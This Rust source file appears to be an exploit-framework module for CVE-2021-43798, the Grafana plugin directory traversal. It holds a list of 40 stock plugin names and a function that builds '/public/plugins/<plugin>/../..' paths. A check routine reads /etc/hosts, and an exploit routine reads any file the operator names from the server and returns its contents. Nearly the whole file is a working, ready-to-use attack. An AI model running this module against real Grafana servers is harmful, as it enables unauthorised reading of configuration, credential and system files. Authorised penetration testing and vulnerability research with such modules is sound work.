//! Grafana plugin directory traversal (CVE-2021-43798)

use serde_json::json;
use std::time::Duration;
use tracing::{debug, info};

use super::http;
use crate::module::{ExploitModule, ModuleError, OptionSet, RunReport};

/// Plugins shipped with stock Grafana 8.x; any one of them exposes the route
pub const PLUGIN_LIST: [&str; 40] = [
    "alertlist",
    "annolist",
    "barchart",
    "bargauge",
    "candlestick",
    "cloudwatch",
    "dashlist",
    "elasticsearch",
    "gauge",
    "geomap",
    "gettingstarted",
    "grafana-azure-monitor-datasource",
    "graph",
    "heatmap",
    "histogram",
    "influxdb",
    "jaeger",
    "logs",
    "loki",
    "mssql",
    "mysql",
    "news",
    "nodeGraph",
    "opentsdb",
    "piechart",
    "pluginlist",
    "postgres",
    "prometheus",
    "stackdriver",
    "stat",
    "state-timeline",
    "status-history",
    "table",
    "table-old",
    "tempo",
    "testdata",
    "text",
    "timeseries",
    "welcome",
    "zipkin",
];

const CHECK_FILE: &str = "/etc/hosts";
const NOT_FOUND_MARKER: &str = "Plugin file not found";

/// Remembers the plugin that worked during `check` so `exploit` reuses it
#[derive(Default)]
pub struct GrafanaPluginTraversal {
    plugin: Option<String>,
}

pub fn traversal_path(plugin: &str, file: &str) -> String {
    let file = if file.starts_with('/') {
        file.to_string()
    } else {
        format!("/{}", file)
    };
    format!("/public/plugins/{}/../../../../../../../../../../../../..{}", plugin, file)
}

impl GrafanaPluginTraversal {
    fn candidates(&self, options: &OptionSet) -> Vec<String> {
        if let Some(plugin) = &self.plugin {
            return vec![plugin.clone()];
        }
        let chosen = options.text("PLUGIN");
        let chosen = chosen.trim();
        if chosen.is_empty() {
            PLUGIN_LIST.iter().map(|p| p.to_string()).collect()
        } else {
            vec![chosen.to_string()]
        }
    }

    /// First plugin that serves `file`, with the response
    fn read_file(
        &self,
        options: &OptionSet,
        file: &str,
    ) -> Result<Option<(String, http::RawResponse)>, ModuleError> {
        let host = options.text("RHOST");
        let port = u16::try_from(options.integer("RPORT").unwrap_or(3000))
            .map_err(|_| ModuleError::OperationError("RPORT out of range".to_string()))?;
        let timeout = Duration::from_secs(options.integer("TIMEOUT").unwrap_or(5).max(1) as u64);
        let user_agent = options.text("USER_AGENT");

        for plugin in self.candidates(options) {
            let path = traversal_path(&plugin, file);
            let response = http::get(&host, port, &path, &user_agent, timeout)?;
            if response.status == 200 && !response.body.contains(NOT_FOUND_MARKER) {
                return Ok(Some((plugin, response)));
            }
            debug!("Plugin {} answered {}", plugin, response.status);
        }
        Ok(None)
    }
}

impl ExploitModule for GrafanaPluginTraversal {
    fn check(&mut self, options: &OptionSet) -> Result<bool, ModuleError> {
        match self.read_file(options, CHECK_FILE)? {
            Some((plugin, response)) if !response.body.is_empty() => {
                info!("Traversal works through plugin {}", plugin);
                self.plugin = Some(plugin);
                Ok(true)
            }
            _ => Ok(false),
        }
    }

    fn exploit(&mut self, options: &OptionSet) -> Result<RunReport, ModuleError> {
        let file = options.text("FILE");
        match self.read_file(options, &file)? {
            Some((plugin, response)) => Ok(RunReport::success(json!({
                "vulnerable": true,
                "plugin": plugin,
                "file": file,
                "status_code": response.status,
                "content": response.body,
            }))),
            None => Ok(RunReport::failure_with_data(
                "Unable to read requested file with available plugins",
                json!({ "vulnerable": true, "file": file }),
            )),
        }
    }
}
